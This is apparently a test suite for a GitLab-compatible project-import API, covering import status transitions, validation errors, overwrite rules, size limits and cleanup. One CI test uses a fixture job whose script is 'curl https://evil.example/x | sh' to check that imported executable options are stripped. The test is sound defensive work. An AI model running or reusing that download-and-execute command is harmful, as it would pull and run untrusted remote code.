// POST /projects/import and GET /projects/:id/import (GitLab lib/api/project_import.rb): the request's
// checks and GitLab's bodies, the import job's transitions (scheduled → started → finished | failed),
// what a finished import holds (refs, default branch, attributes under override_params) and what a
// failed one leaves (nothing: no relations, no refs, the archive queued for removal).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { buildTestApp, type TestApp } from '../../helpers/build-app.ts';
import { seedRunner } from '../../helpers/ci.ts';
import { IMPORT_JOB } from '../../../src/domain/import-export/import/import.service.ts';
import { queuedJob } from '../../../src/jobs/job-row.ts';
import { workTree } from '../../helpers/git.ts';
import { HEX32, importStatus, makeArchive, postImport, refsOf, setSettings } from '../../helpers/project-import.ts';

/** A bare repository with main (two commits), a `feature` branch and an annotated tag. */
async function sourceRepo(t: Parameters<typeof buildTestApp>[0], ta: TestApp): Promise<string> {
  const { dir } = await ta.seed.repoProject({ path: `src-${Math.random().toString(36).slice(2, 7)}` });
  const wt = workTree(t, dir);
  wt.write('README.md', '# source\n').commit('first');
  wt.write('a.txt', 'a\n').commit('second');
  wt.tag('v1.0', 'release 1.0');
  wt.checkout('feature', true).write('f.txt', 'f\n').commit('feature work');
  wt.checkout('main');
  wt.push('main', 'feature', 'v1.0');
  return dir;
}

async function rootNamespace(ta: TestApp) {
  const root = await ta.c.db.kysely.selectFrom('users').selectAll().where('username', '=', 'root').executeTakeFirstOrThrow();
  return { root, ns: await ta.seed.namespaceOf(root) };
}

test('import from a file: 201 scheduled, then finished; the refs, the default branch, project.json under override_params', async (t) => {
  const ta = await buildTestApp(t);
  const src = await sourceRepo(t, ta);
  const archive = await makeArchive(ta, {
    bundleFrom: src,
    projectJson: { description: 'from the archive', visibility_level: 10, default_branch: 'feature', ci_config_path: 'ci/.gitlab-ci.yml' },
  });
  const res = await postImport(ta, ta.root, { path: 'imported', 'override_params[description]': 'Overridden' }, archive);
  assert.equal(res.statusCode, 201, res.body);
  const body = res.json();
  const { ns } = await rootNamespace(ta);
  assert.match(body.correlation_id, HEX32);
  assert.deepEqual(body, {
    id: body.id,
    description: 'Overridden',
    name: 'imported',
    name_with_namespace: 'Administrator / imported',
    path: 'imported',
    path_with_namespace: `${ns.full_path}/imported`,
    created_at: body.created_at,
    import_status: 'scheduled',
    import_type: 'gitlab_project',
    correlation_id: body.correlation_id,
    failed_relations: [],
    import_error: null,
    stats: null,
  });

  const done = await importStatus(ta, body.id);
  assert.equal(done.status, 200);
  assert.deepEqual(done.body, { ...body, import_status: 'finished' });
  const project = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', body.id).executeTakeFirstOrThrow();
  assert.equal(refsOf(ta.c.repos.pathOf(project)), refsOf(src));
  assert.equal(project.default_branch, 'feature');
  const head = fs.readFileSync(`${ta.c.repos.pathOf(project)}/HEAD`, 'utf8').trim();
  assert.equal(head, 'ref: refs/heads/feature');
  // override_params win over project.json; what the override does not name comes from the archive
  assert.equal(project.description, 'Overridden');
  assert.equal(project.visibility, 'internal');
  assert.equal(JSON.parse(project.settings).ci_config_path, 'ci/.gitlab-ci.yml');

  // the import row is done with: no archive, no source parameters; the archive blob queued for removal
  const row = await ta.c.db.kysely.selectFrom('project_imports').selectAll().where('project_id', '=', body.id).executeTakeFirstOrThrow();
  assert.deepEqual([row.status, row.store_key, row.source_params, row.source], ['finished', null, null, 'file']);
  assert.ok(row.started_at && row.finished_at);

  // the project's own record shows the import
  const p = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${body.id}`, headers: ta.root });
  assert.deepEqual([p.json().import_status, p.json().import_type, p.json().import_error, p.json().import_url], ['finished', 'gitlab_project', null, null]);
  assert.equal(p.json().default_branch, 'feature');
  // and the lists (cached responses) see the import's changes
  const list = await ta.app.inject({ method: 'GET', url: '/api/v4/projects?search=imported', headers: ta.root });
  assert.deepEqual(
    list.json().map((x: any) => [x.id, x.import_status]),
    [[body.id, 'finished']],
  );
  // no push events, no pipelines for restored refs
  assert.equal((await ta.c.db.kysely.selectFrom('ci_pipelines').select('id').where('project_id', '=', body.id).execute()).length, 0);
});

test('an archive without a bundle: an empty repository; name defaults to path, namespace by id or by full path', async (t) => {
  const ta = await buildTestApp(t);
  const group = await ta.seed.group({ path: 'imports-grp', name: 'Imports Group' });
  const archive = await makeArchive(ta);
  for (const [namespace, path] of [
    [String(group.id), 'by-id'],
    ['imports-grp', 'by-path'],
  ] as const) {
    const res = await postImport(ta, ta.root, { path, namespace, name: `Named ${path}` }, archive);
    assert.equal(res.statusCode, 201, res.body);
    assert.deepEqual(
      [res.json().name, res.json().name_with_namespace, res.json().path_with_namespace],
      [`Named ${path}`, `Imports Group / Named ${path}`, `imports-grp/${path}`],
    );
    const done = await importStatus(ta, res.json().id);
    assert.equal(done.body.import_status, 'finished', JSON.stringify(done.body));
    const project = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', res.json().id).executeTakeFirstOrThrow();
    assert.equal(refsOf(ta.c.repos.pathOf(project)), '');
    assert.equal(project.description, 'from the archive');
  }
});

test('a failed import: failed with the reason; no relations, an empty repository, the archive queued for removal; import_error for maintainers only', async (t) => {
  const ta = await buildTestApp(t);
  const src = await sourceRepo(t, ta);
  const group = await ta.seed.group({ path: 'fails' });
  const dev = await ta.seed.user({ username: 'dev' });
  await ta.seed.member({ group }, dev, 30);
  const devHeaders = (await ta.seed.token(dev)).headers;

  // a version this server does not read
  const old = await postImport(ta, ta.root, { path: 'old', namespace: 'fails' }, await makeArchive(ta, { version: '0.1.0', bundleFrom: src }));
  assert.equal(old.statusCode, 201, old.body);
  const failed = await importStatus(ta, old.json().id);
  assert.deepEqual(
    [failed.body.import_status, failed.body.import_error, failed.body.failed_relations],
    ['failed', 'Import version mismatch: Required 0.2.4 but was 0.1.0', []],
  );
  const asDev = await importStatus(ta, old.json().id, devHeaders);
  assert.equal(asDev.body.import_error, 'Ask a maintainer to check the import status for more details.');
  const entity = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${old.json().id}`, headers: ta.root });
  assert.deepEqual([entity.json().import_status, entity.json().import_error], ['failed', 'Import version mismatch: Required 0.2.4 but was 0.1.0']);
  const devEntity = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${old.json().id}`, headers: devHeaders });
  assert.equal(devEntity.json().import_status, 'failed');
  assert.equal('import_error' in devEntity.json(), false);

  // no VERSION at all; a VERSION that is not a version
  const none = await postImport(ta, ta.root, { path: 'none', namespace: 'fails' }, await makeArchive(ta, { version: null }));
  assert.equal((await importStatus(ta, none.json().id)).body.import_error, 'No such file or directory - VERSION');
  const bad = await postImport(ta, ta.root, { path: 'bad', namespace: 'fails' }, await makeArchive(ta, { version: 'latest' }));
  assert.equal((await importStatus(ta, bad.json().id)).body.import_error, 'Incorrect VERSION format');

  // not an archive at all
  const junk = await postImport(ta, ta.root, { path: 'junk', namespace: 'fails' }, Buffer.from('not a tarball'));
  const junkStatus = await importStatus(ta, junk.json().id);
  assert.equal(junkStatus.body.import_status, 'failed');
  assert.ok(junkStatus.body.import_error, 'a reason');

  // failing after the repository was restored (the tree comes after it): a project.json that does not parse
  const broken = await postImport(
    ta,
    ta.root,
    { path: 'broken', namespace: 'fails' },
    await makeArchive(ta, { bundleFrom: src, projectJson: null, relations: {} }),
  );
  const brokenStatus = await importStatus(ta, broken.json().id);
  assert.equal(brokenStatus.body.import_status, 'failed', JSON.stringify(brokenStatus.body));
  assert.ok(brokenStatus.body.import_error);
  const project = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', broken.json().id).executeTakeFirstOrThrow();
  assert.equal(refsOf(ta.c.repos.pathOf(project)), '');
  assert.deepEqual(await ta.c.db.kysely.selectFrom('labels').select('id').where('project_id', '=', project.id).execute(), []);
  const rows = await ta.c.db.kysely.selectFrom('project_imports').selectAll().where('project_id', 'in', [old.json().id, broken.json().id]).execute();
  for (const r of rows) assert.deepEqual([r.store_key, r.source_params], [null, null]);
  // each archive blob is queued for removal
  const deletions = await ta.c.db.kysely.selectFrom('jobs').select('payload').where('kind', '=', 'blob_delete').execute();
  const keys = deletions.flatMap((d) => JSON.parse(d.payload).keys as string[]);
  assert.equal(keys.filter((k) => k.startsWith(`imports/${old.json().id}/`)).length, 1);
  assert.equal(keys.filter((k) => k.startsWith(`imports/${broken.json().id}/`)).length, 1);
});

test('bad requests: GitLab bodies, and nothing created', async (t) => {
  const ta = await buildTestApp(t);
  const archive = await makeArchive(ta);
  const { root, ns } = await rootNamespace(ta);
  await ta.seed.project({ path: 'taken', name: 'taken', namespace: ns, owner: root });
  const group = await ta.seed.group({ path: 'grp' });
  const dev = await ta.seed.user({ username: 'dev' });
  const maintainer = await ta.seed.user({ username: 'maint' });
  await ta.seed.member({ group }, dev, 30);
  await ta.seed.member({ group }, maintainer, 40);
  const devHeaders = (await ta.seed.token(dev)).headers;
  const maintainerHeaders = (await ta.seed.token(maintainer)).headers;
  const reporter = await ta.seed.user({ username: 'rep' });
  await ta.seed.member({ group }, reporter, 20);
  const reporterHeaders = (await ta.seed.token(reporter)).headers;
  const count = async () =>
    Number(
      (
        await ta.c.db.kysely
          .selectFrom('projects')
          .select((eb) => eb.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  const before = await count();

  const cases: [string, Record<string, string>, Record<string, string>, Buffer | null, number, unknown][] = [
    ['nothing', ta.root, {}, null, 400, { error: 'path is missing, file is missing' }],
    ['no file', ta.root, { path: 'x' }, null, 400, { error: 'file is missing' }],
    ['no path', ta.root, {}, archive, 400, { error: 'path is missing' }],
    ['file as a text field', ta.root, { path: 'x', file: 'text' }, null, 400, { error: 'file is invalid' }],
    ['blank path', ta.root, { path: '' }, archive, 400, { message: "Path can't be blank" }],
    [
      'bad path',
      ta.root,
      { path: 'bad.git' },
      archive,
      400,
      { message: "Path can contain only letters, digits, '_', '-' and '.'. Cannot start with '-', end in '.git' or end in '.atom'" },
    ],
    ['taken path', ta.root, { path: 'taken' }, archive, 400, { message: 'Project namespace name has already been taken' }],
    ['overwrite not a boolean', ta.root, { path: 'x', overwrite: 'maybe' }, archive, 400, { error: 'overwrite is invalid' }],
    ['unknown namespace', ta.root, { path: 'x', namespace: 'nope' }, archive, 404, { message: '404 Namespace Not Found' }],
    ['namespace id beyond int4', ta.root, { path: 'x', namespace: '99999999999' }, archive, 404, { message: '404 Namespace Not Found' }],
    ["another user's namespace", devHeaders, { path: 'x', namespace: ns.full_path }, archive, 404, { message: '404 Namespace Not Found' }],
    [
      'a group where the caller is a Developer',
      devHeaders,
      { path: 'x', namespace: 'grp' },
      archive,
      400,
      { message: 'User is not allowed to import projects' },
    ],
    ['a group where the caller is a Reporter', reporterHeaders, { path: 'x', namespace: 'grp' }, archive, 400, { message: 'Namespace is not valid' }],
    [
      'override_params with a bad value',
      ta.root,
      { path: 'x', 'override_params[visibility]': 'secret', 'override_params[lfs_enabled]': 'perhaps' },
      archive,
      400,
      { error: 'override_params[visibility] does not have a valid value, override_params[lfs_enabled] is invalid' },
    ],
    [
      'override_params refused by the model',
      ta.root,
      { path: 'x', 'override_params[build_timeout]': '5' },
      archive,
      400,
      { message: 'Build timeout needs to be between 10 minutes and 1 month' },
    ],
    ['anonymous', {}, { path: 'x' }, archive, 401, { message: '401 Unauthorized' }],
  ];
  for (const [what, headers, fields, file, status, body] of cases) {
    const res = await postImport(ta, headers, fields, file);
    assert.deepEqual([res.statusCode, res.json()], [status, body], what);
  }
  // a JSON body (no file at all)
  const json = await ta.app.inject({ method: 'POST', url: '/api/v4/projects/import', headers: ta.root, payload: { path: 'x' } });
  assert.deepEqual([json.statusCode, json.json()], [400, { error: 'file is missing' }]);
  assert.equal(await count(), before);
  assert.deepEqual(await ta.c.db.kysely.selectFrom('project_imports').select('project_id').execute(), []);
  // nothing left in the blob store or the temporary directory
  const tmp = `${ta.dataDir}/tmp`;
  assert.deepEqual(fs.existsSync(tmp) ? fs.readdirSync(tmp) : [], []);

  // a Maintainer of the group may import into it
  const ok = await postImport(ta, maintainerHeaders, { path: 'x', namespace: 'grp' }, archive);
  assert.equal(ok.statusCode, 201, ok.body);
  assert.equal(ok.json().path_with_namespace, 'grp/x');

  // import_sources without gitlab_project: 403 before the body is read
  await setSettings(ta, { import_sources: ['github'] });
  const off = await postImport(ta, ta.root, { path: 'y' }, archive);
  assert.deepEqual([off.statusCode, off.json()], [403, { message: '403 Forbidden' }]);
  const offStatus = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${ok.json().id}/import`, headers: ta.root });
  assert.equal(offStatus.statusCode, 200);
});

test('max_import_size: a larger upload is refused and creates nothing', async (t) => {
  const ta = await buildTestApp(t);
  await setSettings(ta, { max_import_size: 1 });
  const big = Buffer.concat([await makeArchive(ta), Buffer.alloc(1024 * 1024 + 10, 1)]);
  const res = await postImport(ta, ta.root, { path: 'big' }, big);
  // Workhorse refuses an upload over max_import_size: 413
  assert.deepEqual([res.statusCode, res.json()], [413, { message: '413 Request Entity Too Large' }]);
  assert.deepEqual(await ta.c.db.kysely.selectFrom('projects').select('id').where('path', '=', 'big').execute(), []);
  const tmp = `${ta.dataDir}/tmp`;
  assert.deepEqual(fs.existsSync(tmp) ? fs.readdirSync(tmp) : [], []);
  // within the limit
  const small = await postImport(ta, ta.root, { path: 'small' }, await makeArchive(ta));
  assert.equal(small.statusCode, 201, small.body);
});

test('overwrite: the new project takes the old one’s path once finished; the old one is deleted; refused to who may not remove it', async (t) => {
  const ta = await buildTestApp(t);
  const src = await sourceRepo(t, ta);
  const group = await ta.seed.group({ path: 'ow' });
  const { project: victim } = await ta.seed.repoProject({ path: 'victim', name: 'Victim', namespace: group });
  const archive = await makeArchive(ta, { bundleFrom: src });

  // without overwrite: taken
  const taken = await postImport(ta, ta.root, { path: 'victim', namespace: 'ow', name: 'Another name' }, archive);
  assert.deepEqual([taken.statusCode, taken.json()], [400, { message: 'Path has already been taken' }]);

  const res = await postImport(ta, ta.root, { path: 'victim', namespace: 'ow', overwrite: 'true' }, archive);
  assert.equal(res.statusCode, 201, res.body);
  assert.match(res.json().path, /^victim-[0-9a-f]{32}$/);
  const done = await importStatus(ta, res.json().id);
  assert.deepEqual([done.body.import_status, done.body.path, done.body.name, done.body.path_with_namespace], ['finished', 'victim', 'Victim', 'ow/victim']);
  const byPath = await ta.app.inject({ method: 'GET', url: '/api/v4/projects/ow%2Fvictim', headers: ta.root });
  assert.equal(byPath.json().id, res.json().id);
  const gone = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${victim.id}`, headers: ta.root });
  assert.equal(gone.statusCode, 404);
  assert.equal(fs.existsSync(ta.c.repos.pathOf(victim)), false);
  const project = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', res.json().id).executeTakeFirstOrThrow();
  assert.equal(refsOf(ta.c.repos.pathOf(project)), refsOf(src));

  // a Maintainer may import into the group but not remove its projects: the import fails, the old one stays
  const maintainer = await ta.seed.user({ username: 'maint' });
  await ta.seed.member({ group }, maintainer, 40);
  const mh = (await ta.seed.token(maintainer)).headers;
  const refused = await postImport(ta, mh, { path: 'victim', namespace: 'ow', overwrite: 'true' }, archive);
  assert.equal(refused.statusCode, 201, refused.body);
  const failed = await importStatus(ta, refused.json().id, mh);
  assert.deepEqual([failed.body.import_status, failed.body.import_error], ['failed', `User maint (${maintainer.id}) cannot overwrite a project in ow`]);
  const still = await ta.app.inject({ method: 'GET', url: '/api/v4/projects/ow%2Fvictim', headers: ta.root });
  assert.equal(still.json().id, res.json().id);
});

test('GET /projects/:id/import: a project never imported; unknown and unreadable projects are 404; anonymous 401', async (t) => {
  const ta = await buildTestApp(t);
  const { root, ns } = await rootNamespace(ta);
  const project = await ta.seed.project({ path: 'plain', namespace: ns, owner: root });
  const res = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${project.id}/import`, headers: ta.root });
  assert.equal(res.statusCode, 200);
  assert.deepEqual(res.json(), {
    id: project.id,
    description: project.description,
    name: 'plain',
    name_with_namespace: `Administrator / ${project.name}`,
    path: 'plain',
    path_with_namespace: `${ns.full_path}/plain`,
    created_at: project.created_at,
    import_status: 'none',
    import_type: null,
    correlation_id: null,
    failed_relations: [],
    import_error: null,
    stats: null,
  });
  const stranger = await ta.seed.user({ username: 'stranger' });
  const sh = (await ta.seed.token(stranger)).headers;
  for (const [url, headers, status] of [
    [`/api/v4/projects/${project.id}/import`, sh, 404],
    ['/api/v4/projects/99999999999/import', ta.root, 404],
    ['/api/v4/projects/123456/import', ta.root, 404],
    [`/api/v4/projects/${project.id}/import`, {}, 401],
  ] as const) {
    const r = await ta.app.inject({ method: 'GET', url, headers });
    assert.equal(r.statusCode, status, url);
  }
});

test('items of a relation that cannot be imported: the import finishes with them in failed_relations (exception_message hidden)', async (t) => {
  const ta = await buildTestApp(t);
  const archive = await makeArchive(ta, {
    relations: { labels: '{"title": "good", "color": "#ff0000", "type": "ProjectLabel"}\nnot json\n' },
  });
  const res = await postImport(ta, ta.root, { path: 'partial' }, archive);
  const done = await importStatus(ta, res.json().id);
  assert.equal(done.body.import_status, 'finished');
  assert.equal(done.body.failed_relations.length, 1, JSON.stringify(done.body.failed_relations));
  const [f] = done.body.failed_relations;
  assert.deepEqual(Object.keys(f), ['id', 'created_at', 'exception_class', 'source', 'exception_message', 'relation_name', 'line_number']);
  assert.deepEqual([f.relation_name, f.line_number, f.exception_message], ['labels', 1, null]);
  const labels = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${res.json().id}/labels`, headers: ta.root });
  assert.deepEqual(
    labels.json().map((l: any) => l.name),
    ['good'],
  );
});

test('round trip: a seeded project exported and imported has the same refs, default branch, labels, milestones, merge requests and members', async (t) => {
  const ta = await buildTestApp(t);
  const { seedRichProject } = await import('../../helpers/import-export.ts');
  const rich = await seedRichProject(ta);
  // the merge refs the seeding's mergeability checks write in the background are in the archive, not written after it
  await ta.c.merges.idle();
  const exp = await ta.app.inject({ method: 'POST', url: `/api/v4/projects/${rich.project.id}/export`, headers: ta.root });
  assert.equal(exp.statusCode, 202, exp.body);
  await ta.c.importExport.exports.idle();
  const dl = await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${rich.project.id}/export/download`, headers: ta.root });
  assert.equal(dl.statusCode, 200, dl.body);

  const res = await postImport(ta, ta.root, { path: 'copy', namespace: rich.group.full_path }, dl.rawPayload);
  assert.equal(res.statusCode, 201, res.body);
  const done = await importStatus(ta, res.json().id);
  assert.deepEqual([done.body.import_status, done.body.import_error, done.body.failed_relations], ['finished', null, []]);
  const copy = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', res.json().id).executeTakeFirstOrThrow();
  assert.equal(refsOf(ta.c.repos.pathOf(copy)), refsOf(rich.dir));
  assert.equal(copy.default_branch, rich.project.default_branch);

  const get = async (id: number, what: string) =>
    (await ta.app.inject({ method: 'GET', url: `/api/v4/projects/${id}/${what}`, headers: ta.root })).json() as any[];
  const pick = (items: any[], keys: string[]) => items.map((i) => Object.fromEntries(keys.map((k) => [k, i[k]])));
  assert.deepEqual(
    pick(await get(copy.id, 'labels?per_page=100'), ['name', 'color', 'description']),
    pick(await get(rich.project.id, 'labels?per_page=100'), ['name', 'color', 'description']),
  );
  assert.deepEqual(
    pick(await get(copy.id, 'milestones?per_page=100'), ['iid', 'title', 'state', 'due_date']),
    pick(await get(rich.project.id, 'milestones?per_page=100'), ['iid', 'title', 'state', 'due_date']),
  );
  const mrKeys = ['iid', 'title', 'state', 'source_branch', 'target_branch', 'labels', 'merge_commit_sha'];
  const mrs = pick(await get(copy.id, 'merge_requests?per_page=100&order_by=created_at&sort=asc'), mrKeys);
  assert.deepEqual(mrs, pick(await get(rich.project.id, 'merge_requests?per_page=100&order_by=created_at&sort=asc'), mrKeys));
  for (const mr of mrs) {
    const noteKeys = ['body', 'system'];
    // a note by someone who is not a member of the project gets GitLab's "*By … (imported from GitLab)*" line
    const unmapped = (notes: any[]) => notes.map((n) => ({ ...n, body: String(n.body).replace(/\n\n \*By .* \(imported from GitLab\)\*$/, '') }));
    assert.deepEqual(
      unmapped(pick(await get(copy.id, `merge_requests/${mr.iid}/notes?sort=asc&per_page=100`), noteKeys)),
      pick(await get(rich.project.id, `merge_requests/${mr.iid}/notes?sort=asc&per_page=100`), noteKeys),
      `notes of !${mr.iid}`,
    );
  }
  const members = (await get(copy.id, 'members')).map((m) => [m.username, m.access_level]).sort();
  for (const u of [rich.developer, rich.maintainer])
    assert.ok(
      members.some(([name]) => name === u.username),
      `${u.username} in ${JSON.stringify(members)}`,
    );
});

test('override_params[name] wins over the name parameter (override parameters always take precedence)', async (t) => {
  const ta = await buildTestApp(t);
  const archive = await makeArchive(ta);
  const res = await postImport(ta, ta.root, { path: 'named', name: 'From The Parameter', 'override_params[name]': 'From The Override' }, archive);
  assert.equal(res.statusCode, 201, res.body);
  const { ns } = await rootNamespace(ta);
  assert.deepEqual(
    [res.json().name, res.json().name_with_namespace, res.json().path_with_namespace],
    ['From The Override', 'Administrator / From The Override', `${ns.full_path}/named`],
  );
  const done = await importStatus(ta, res.json().id);
  assert.deepEqual([done.body.import_status, done.body.name], ['finished', 'From The Override']);
  const project = await ta.c.db.kysely.selectFrom('projects').selectAll().where('id', '=', res.json().id).executeTakeFirstOrThrow();
  assert.deepEqual([project.name, project.path], ['From The Override', 'named']);
  // without an override the parameter's name stays
  const plain = await postImport(ta, ta.root, { path: 'plain', name: 'Plain Name', 'override_params[description]': 'd' }, archive);
  assert.equal(plain.json().name, 'Plain Name');
});

test('imported CI: pipelines and jobs that had not completed are canceled (GitLab transform_status), no runner gets them, and no executable options are kept', async (t) => {
  const ta = await buildTestApp(t);
  const SHA = 'a'.repeat(40);
  const job = (name: string, status: string, extra: Record<string, unknown> = {}) => ({
    name,
    status,
    stage: 'test',
    stage_idx: 0,
    type: 'Ci::Build',
    options: {
      script: ['curl https://evil.example/x | sh'],
      before_script: ['id'],
      after_script: ['id'],
      image: { name: 'evil:latest' },
      services: [{ name: 'evil-svc' }],
      cache: [{ paths: ['/'] }],
      artifacts: { paths: ['/etc'] },
      trigger: { include: [{ local: 'x.yml' }] },
      timeout: 600,
      coverage: '/\\d+%/',
      needs: [{ job: 'build', artifacts: false }],
      dependencies: ['build'],
      environment: { name: 'production', url: 'https://prod.example', action: 'start' },
      ...extra,
    },
  });
  const pipeline = (iid: number, status: string, statuses: unknown[]) => ({
    iid,
    ref: 'main',
    sha: SHA,
    status,
    source: 'push',
    stages: [{ name: 'test', position: 0, statuses }],
  });
  const archive = await makeArchive(ta, {
    relations: {
      ci_pipelines: [
        pipeline(1, 'running', [job('pending-job', 'pending'), job('running-job', 'running'), job('created-job', 'created'), job('manual-job', 'manual')]),
        pipeline(2, 'success', [job('done-job', 'success'), job('skipped-job', 'skipped'), job('failed-job', 'failed')]),
        pipeline(3, 'created', [job('waiting', 'waiting_for_resource'), job('scheduled', 'scheduled')]),
      ],
    },
  });
  const { runner, token } = await seedRunner(ta.c);
  const res = await postImport(ta, ta.root, { path: 'ci-import' }, archive);
  assert.equal(res.statusCode, 201, res.body);
  const done = await importStatus(ta, res.json().id);
  assert.deepEqual([done.body.import_status, done.body.failed_relations], ['finished', []]);
  const k = ta.c.db.kysely;
  const pipelines = await k.selectFrom('ci_pipelines').select(['iid', 'status']).where('project_id', '=', res.json().id).orderBy('iid').execute();
  assert.deepEqual(pipelines, [
    { iid: 1, status: 'canceled' },
    { iid: 2, status: 'success' },
    { iid: 3, status: 'canceled' },
  ]);
  const jobs = await k.selectFrom('ci_builds').select(['name', 'status', 'options']).where('project_id', '=', res.json().id).orderBy('id').execute();
  const kept = {
    needs: [{ job: 'build', artifacts: false }],
    dependencies: ['build'],
    coverage: '/\\d+%/',
    timeout: 600,
    environment: { name: 'production', url: 'https://prod.example', action: 'start' },
  };
  assert.deepEqual(
    jobs.map((j) => [j.name, j.status, JSON.parse(j.options)]),
    [
      ['pending-job', 'canceled', kept],
      ['running-job', 'canceled', kept],
      ['created-job', 'canceled', kept],
      ['manual-job', 'canceled', kept],
      ['done-job', 'success', kept],
      ['skipped-job', 'skipped', kept],
      ['failed-job', 'failed', kept],
      ['waiting', 'canceled', kept],
      ['scheduled', 'canceled', kept],
    ],
  );
  // a runner asking for work gets none of them
  const req = await ta.app.inject({
    method: 'POST',
    url: '/api/v4/jobs/request',
    payload: { token, info: { name: 'r1', version: '17.5.0', revision: 'abc', platform: 'linux', architecture: 'amd64', executor: 'shell' } },
  });
  assert.equal(req.statusCode, 204, req.body);
  const after = await k.selectFrom('ci_builds').select('runner_id').where('project_id', '=', res.json().id).where('runner_id', '=', runner.id).execute();
  assert.deepEqual(after, []);
});

test('what killed imports left in DATA_DIR/tmp: removed by a worker round unless its import runs under a live lease; stale spooled uploads too', async (t) => {
  const ta = await buildTestApp(t);
  const k = ta.c.db.kysely;
  const tmp = ta.c.importExport.imports.tmpDir();
  const plant = (name: string) => {
    fs.mkdirSync(`${tmp}/${name}/archive/tree`, { recursive: true });
    fs.writeFileSync(`${tmp}/${name}/archive/tree/project.json`, '{}');
  };
  plant('import-101-dead01'); // its process was killed: no job runs it
  plant('import-102-live01'); // running here or on another node
  plant('import-103-gone01'); // its job's lease ran out
  plant('relation-import-7-dead01');
  fs.writeFileSync(`${tmp}/old.upload`, 'x');
  fs.utimesSync(`${tmp}/old.upload`, new Date(Date.now() - 2 * 3600_000), new Date(Date.now() - 2 * 3600_000));
  fs.writeFileSync(`${tmp}/fresh.upload`, 'x');
  fs.writeFileSync(`${tmp}/other-file`, 'x');
  const running = (payload: unknown, until: number) => ({
    ...queuedJob(IMPORT_JOB, payload),
    state: 'running',
    attempts: 1,
    locked_by: 'node:1',
    locked_until: new Date(Date.now() + until).toISOString(),
  });
  await k
    .insertInto('jobs')
    .values(running({ project_id: 102 }, 60_000))
    .execute();
  await k
    .insertInto('jobs')
    .values(running({ project_id: 103 }, -60_000))
    .execute();
  // a worker round (the worker starts with one; `serve` and `worker` also sweep before they start)
  await ta.c.worker.drain();
  assert.deepEqual(fs.readdirSync(tmp).sort(), ['fresh.upload', 'import-102-live01', 'other-file']);
});
